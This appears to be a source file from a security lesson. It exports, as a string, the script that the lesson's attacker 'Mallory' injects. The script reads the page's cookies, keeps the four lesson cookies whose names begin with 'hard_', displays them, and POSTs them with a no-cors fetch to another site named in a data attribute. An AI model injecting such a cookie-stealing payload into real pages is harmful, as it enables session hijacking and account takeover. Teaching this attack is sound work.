/** What Mallory’s entry brings along. It takes the four cookies of this lesson, and leaves all others alone. */
export const thief = `
const loot = document.getElementById('loot')
const stolen = document.cookie.split('; ').filter((pair) => pair.startsWith('hard_'))
loot.textContent = stolen.join('\\n') || 'none of the four'
fetch(loot.dataset.inbox, { method: 'POST', mode: 'no-cors', body: stolen.join('\\n') }).then(
  () => loot.after('Sent to the other site.'),
  () => loot.after('The other site could not be reached.'),
)
`
